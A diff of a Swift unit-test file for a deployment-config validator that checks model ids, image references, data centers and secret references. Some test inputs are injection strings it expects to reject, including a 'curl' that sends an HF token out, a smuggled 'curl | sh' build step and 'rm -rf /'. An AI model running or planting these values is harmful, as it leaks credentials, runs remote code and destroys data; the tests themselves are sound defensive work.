@@ -32,7 +32,8 @@ final class ShapeTests: XCTestCase {
     // MARK: the issue's attacks
 
     func testShellInTheRevisionIsRejectedAtItsLocation() {
-        let (m, d) = check("""
+        let (m, d) = check(
+            """
             version: 1
             name: chat
             model: {id: meta-llama/Llama-3.1-8B-Instruct, revision: 1️⃣"main$(curl x $HF_TOKEN)"}
@@ -46,11 +47,12 @@ final class ShapeTests: XCTestCase {
     }
 
     func testImageWithANewlineAndAnInstructionIsRejected() {
-        let (m, d) = check(minimal + """
-            deploy:
-              image: 1️⃣"vllm/vllm-openai:v0.27.1\\n\\tRUN curl http://x | sh"
+        let (m, d) = check(
+            minimal + """
+                deploy:
+                  image: 1️⃣"vllm/vllm-openai:v0.27.1\\n\\tRUN curl http://x | sh"
 
-            """)
+                """)
         XCTAssertEqual(errors(d), [at(m, "invalid-image", "1️⃣")])
         XCTAssertFalse(d[0].message.contains("\n"), d[0].message)
         XCTAssertTrue(d[0].message.contains("v0.27.1\\n\\tRUN curl"), d[0].message)
@@ -58,17 +60,23 @@ final class ShapeTests: XCTestCase {
     }
 
     func testDataCentersMustBeRunPodIds() {
-        let (m, d) = check(minimal + """
-            constraints:
-              data_centers: [EU-RO-1, 1️⃣"EU-RO-1\\n", 2️⃣../x, 3️⃣eu-ro-1, CA-MTL-1, 4️⃣"US-TX-3 "]
+        let (m, d) = check(
+            minimal + """
+                constraints:
+                  data_centers: [EU-RO-1, 1️⃣"EU-RO-1\\n", 2️⃣../x, 3️⃣eu-ro-1, CA-MTL-1, 4️⃣"US-TX-3 "]
 
-            """)
-        XCTAssertEqual(errors(d), [at(m, "invalid-data-center", "1️⃣"), at(m, "invalid-data-center", "2️⃣"),
-                                   at(m, "invalid-data-center", "3️⃣"), at(m, "invalid-data-center", "4️⃣")])
+                """)
+        XCTAssertEqual(
+            errors(d),
+            [
+                at(m, "invalid-data-center", "1️⃣"), at(m, "invalid-data-center", "2️⃣"),
+                at(m, "invalid-data-center", "3️⃣"), at(m, "invalid-data-center", "4️⃣")
+            ])
     }
 
     func testModelIdsLabelsAndEnv() {
-        let (m, d) = check("""
+        let (m, d) = check(
+            """
             version: 1
             name: chat
             model: {id: 1️⃣"meta-llama/Llama 3; rm -rf /"}
@@ -82,13 +90,18 @@ final class ShapeTests: XCTestCase {
                 BELL: 5️⃣"\\a"
 
             """)
-        XCTAssertEqual(Set(errors(d)), [at(m, "invalid-model-id", "1️⃣"), at(m, "invalid-label", "2️⃣"), at(m, "invalid-label", "3️⃣"),
-                                        at(m, "invalid-env-value", "4️⃣"), at(m, "invalid-env-value", "5️⃣")])
+        XCTAssertEqual(
+            Set(errors(d)),
+            [
+                at(m, "invalid-model-id", "1️⃣"), at(m, "invalid-label", "2️⃣"), at(m, "invalid-label", "3️⃣"),
+                at(m, "invalid-env-value", "4️⃣"), at(m, "invalid-env-value", "5️⃣")
+            ])
         XCTAssertEqual(errors(d).count, 5)
     }
 
     func testEveryExampleShapeIsAccepted() {
-        let (_, d) = check("""
+        let (_, d) = check(
+            """
             version: 1
             name: chat
             model: {id: meta-llama/Llama-3.1-8B-Instruct, revision: 0e9e39f249a16976918f6564b8830bc894c89659}
@@ -107,12 +120,16 @@ final class ShapeTests: XCTestCase {
     // MARK: the shapes themselves
 
     func testRevisionShape() {
-        for ok in ["main", "v1.0", "refs/pr/12", "release/2024-01_a", String(repeating: "a", count: 255),
-                   "0e9e39f249a16976918f6564b8830bc894c89659"] {
+        for ok in [
+            "main", "v1.0", "refs/pr/12", "release/2024-01_a", String(repeating: "a", count: 255),
+            "0e9e39f249a16976918f6564b8830bc894c89659"
+        ] {
             XCTAssertTrue(StringShape.isRevision(ok), ok)
         }
-        for bad in ["", "-main", "main..x", "a//b", "/main", "main/", ".hidden", "main.", "main$(id)", "ma`id`in", "a b",
-                    "a\nb", "a\tb", "'x'", "\"x\"", "x;y", String(repeating: "a", count: 256), "mäin"] {
+        for bad in [
+            "", "-main", "main..x", "a//b", "/main", "main/", ".hidden", "main.", "main$(id)", "ma`id`in", "a b",
+            "a\nb", "a\tb", "'x'", "\"x\"", "x;y", String(repeating: "a", count: 256), "mäin"
+        ] {
             XCTAssertFalse(StringShape.isRevision(bad), bad)
         }
     }
@@ -121,21 +138,27 @@ final class ShapeTests: XCTestCase {
         for ok in ["meta-llama/Llama-3.1-8B-Instruct", "gpt2", "llama-3.1-8b", "Qwen/Qwen2.5-0.5B-Instruct", "a/b"] {
             XCTAssertTrue(StringShape.isModelID(ok), ok)
         }
-        for bad in ["", "a/b/c", "/a", "a/", "a--b/c", "a/b--c", "a..b/c", "-a/b", "a/b-", "a b/c", "a/b\n", "a/$(x)",
-                    String(repeating: "a", count: 97) + "/b"] {
+        for bad in [
+            "", "a/b/c", "/a", "a/", "a--b/c", "a/b--c", "a..b/c", "-a/b", "a/b-", "a b/c", "a/b\n", "a/$(x)",
+            String(repeating: "a", count: 97) + "/b"
+        ] {
             XCTAssertFalse(StringShape.isModelID(bad), bad)
         }
     }
 
     func testImageReferenceShape() {
-        for ok in ["vllm/vllm-openai:v0.27.1", "ubuntu", "ubuntu:22.04", "localhost:5000/a/b:c", "ghcr.io/o/r",
-                   "registry.example.com:443/team/app__x.y-z:TAG_1", "a@sha256:" + String(repeating: "f", count: 64),
-                   "Registry.Example.com/app:1", "a---b:1"] {
+        for ok in [
+            "vllm/vllm-openai:v0.27.1", "ubuntu", "ubuntu:22.04", "localhost:5000/a/b:c", "ghcr.io/o/r",
+            "registry.example.com:443/team/app__x.y-z:TAG_1", "a@sha256:" + String(repeating: "f", count: 64),
+            "Registry.Example.com/app:1", "a---b:1"
+        ] {
             XCTAssertTrue(StringShape.isImageReference(ok), ok)
         }
-        for bad in ["", " ", "vllm/Vllm", "vllm/vllm openai", "vllm/vllm\nRUN x", "a\tb", "a:", "a:-x", "a@sha256:abc",
-                    "a/", "/a", "a//b", "a._b", "a___b", "-a", "a:b:c", "a:$(x)", "a@sha256:" + String(repeating: "g", count: 64),
-                    "host:99999999/a", String(repeating: "a", count: 256)] {
+        for bad in [
+            "", " ", "vllm/Vllm", "vllm/vllm openai", "vllm/vllm\nRUN x", "a\tb", "a:", "a:-x", "a@sha256:abc",
+            "a/", "/a", "a//b", "a._b", "a___b", "-a", "a:b:c", "a:$(x)", "a@sha256:" + String(repeating: "g", count: 64),
+            "host:99999999/a", String(repeating: "a", count: 256)
+        ] {
             XCTAssertFalse(StringShape.isImageReference(bad), bad)
         }
     }
@@ -162,7 +185,8 @@ final class ShapeTests: XCTestCase {
     // MARK: numbers
 
     func testHugeTokenCountsAreBoundedNotTrapped() {
-        let (m, d) = check("""
+        let (m, d) = check(
+            """
             version: 1
             name: chat
             model: {id: meta-llama/Llama-3.1-8B-Instruct, parameters: 2️⃣9223372036854775807}
@@ -172,8 +196,12 @@ final class ShapeTests: XCTestCase {
             training: {sequence_length: 4️⃣9223372036854775807}
 
             """)
-        XCTAssertEqual(Set(errors(d)), [at(m, "out-of-range", "1️⃣"), at(m, "out-of-range", "2️⃣"), at(m, "out-of-range", "3️⃣"),
-                                        at(m, "out-of-range", "4️⃣")])
+        XCTAssertEqual(
+            Set(errors(d)),
+            [
+                at(m, "out-of-range", "1️⃣"), at(m, "out-of-range", "2️⃣"), at(m, "out-of-range", "3️⃣"),
+                at(m, "out-of-range", "4️⃣")
+            ])
     }
 
     func testContainerDiskBounds() {
@@ -201,7 +229,7 @@ final class ShapeTests: XCTestCase {
             ("OPENAI", "sk-proj-0123456789abcdefghij"),
             ("HF", "hf_abcdefghijklmnopqrstuvwxyz"),
             ("RP", "rpa_ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"),
-            ("AUTH_HEADER", "Bearer hf_abcdefghijklmnopqrstuvwxyz"),
+            ("AUTH_HEADER", "Bearer hf_abcdefghijklmnopqrstuvwxyz")
         ]
         for (name, value) in literals {
             let (m, d) = check(minimal + "deploy:\n  env:\n    \(name): 1️⃣\"\(value)\"\n")
@@ -211,29 +239,36 @@ final class ShapeTests: XCTestCase {
     }
 
     func testOnlyAnExactReferenceIsASecretReference() {
-        let (m, d) = check(minimal + """
-            deploy:
-              env:
-                A: "{{ RUNPOD_SECRET_hf_token }}"
-                B: "{{RUNPOD_SECRET_hf-token}}"
-                C: 1️⃣"hf_abcdefghijklmnopqrstuvwxyz {{ RUNPOD_SECRET_x }}"
-                D: 2️⃣"{{ RUNPOD_SECRET_x }} and more"
-                E: 3️⃣"{{ RUNPOD_SECRET_bad name }}"
-                F: 4️⃣"{{ RUNPOD_SECRET_a }}{{ RUNPOD_SECRET_b }}"
+        let (m, d) = check(
+            minimal + """
+                deploy:
+                  env:
+                    A: "{{ RUNPOD_SECRET_hf_token }}"
+                    B: "{{RUNPOD_SECRET_hf-token}}"
+                    C: 1️⃣"hf_abcdefghijklmnopqrstuvwxyz {{ RUNPOD_SECRET_x }}"
+                    D: 2️⃣"{{ RUNPOD_SECRET_x }} and more"
+                    E: 3️⃣"{{ RUNPOD_SECRET_bad name }}"
+                    F: 4️⃣"{{ RUNPOD_SECRET_a }}{{ RUNPOD_SECRET_b }}"
 
-            """)
-        XCTAssertEqual(Set(errors(d)), [at(m, "invalid-secret-reference", "1️⃣"), at(m, "invalid-secret-reference", "2️⃣"),
-                                        at(m, "invalid-secret-reference", "3️⃣"), at(m, "invalid-secret-reference", "4️⃣")])
+                """)
+        XCTAssertEqual(
+            Set(errors(d)),
+            [
+                at(m, "invalid-secret-reference", "1️⃣"), at(m, "invalid-secret-reference", "2️⃣"),
+                at(m, "invalid-secret-reference", "3️⃣"), at(m, "invalid-secret-reference", "4️⃣")
+            ])
         XCTAssertEqual(errors(d).count, 4)
         XCTAssertTrue(SecretShape.isSecretReference("{{ RUNPOD_SECRET_hf_token }}"))
         XCTAssertFalse(SecretShape.isSecretReference("{{ RUNPOD_SECRET_ }}"))
     }
 
     func testOrdinaryValuesAreNotSecrets() {
-        for (name, value) in [("LOG_LEVEL", "debug"), ("GIT_SHA", "0123456789abcdef0123456789abcdef01234567"),
-                              ("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_MODE", "auto-detected"),
-                              ("HOMEPAGE", "https://example.com/a:b@c"), ("DB_HOST", "postgres://db.internal:5432/app"),
-                              ("DESCRIPTION", "skipping sk- words is fine"), ("PASSWORD_POLICY_URL", "")] {
+        for (name, value) in [
+            ("LOG_LEVEL", "debug"), ("GIT_SHA", "0123456789abcdef0123456789abcdef01234567"),
+            ("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_MODE", "auto-detected"),
+            ("HOMEPAGE", "https://example.com/a:b@c"), ("DB_HOST", "postgres://db.internal:5432/app"),
+            ("DESCRIPTION", "skipping sk- words is fine"), ("PASSWORD_POLICY_URL", "")
+        ] {
             XCTAssertFalse(SecretShape.isLiteralSecret(name: name, value: value), "\(name)=\(value)")
         }
     }
@@ -241,12 +276,16 @@ final class ShapeTests: XCTestCase {
     /// The diff hides live values that may be credentials, and shows settings whose names only
     /// contain TOKEN(S)/TOKENIZER (worker-vllm's `TOKENIZER_NAME`, `MAX_NUM_BATCHED_TOKENS`).
     func testDiffHidesCredentialsButShowsTokenCounts() {
-        for (name, value) in [("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_NAME", "meta-llama/Llama-3.1-8B-Instruct"),
-                              ("TOKENIZER_MODE", "auto"), ("MAX_TOKENS", "512")] {
+        for (name, value) in [
+            ("MAX_NUM_BATCHED_TOKENS", "16384"), ("TOKENIZER_NAME", "meta-llama/Llama-3.1-8B-Instruct"),
+            ("TOKENIZER_MODE", "auto"), ("MAX_TOKENS", "512")
+        ] {
             XCTAssertFalse(SecretShape.mayBeSecret(name: name, value: value), "\(name)=\(value)")
         }
-        for (name, value) in [("HF_TOKEN", "x"), ("TOKEN", "abc"), ("MY_API_KEY", "short"), ("TOKENIZER_TOKEN", "abc"),
-                              ("DB_CREDENTIALS", "u:p"), ("OTHER", "hf_abcdefghijklmnop")] {
+        for (name, value) in [
+            ("HF_TOKEN", "x"), ("TOKEN", "abc"), ("MY_API_KEY", "short"), ("TOKENIZER_TOKEN", "abc"),
+            ("DB_CREDENTIALS", "u:p"), ("OTHER", "hf_abcdefghijklmnop")
+        ] {
             XCTAssertTrue(SecretShape.mayBeSecret(name: name, value: value), "\(name)=\(value)")
         }
     }
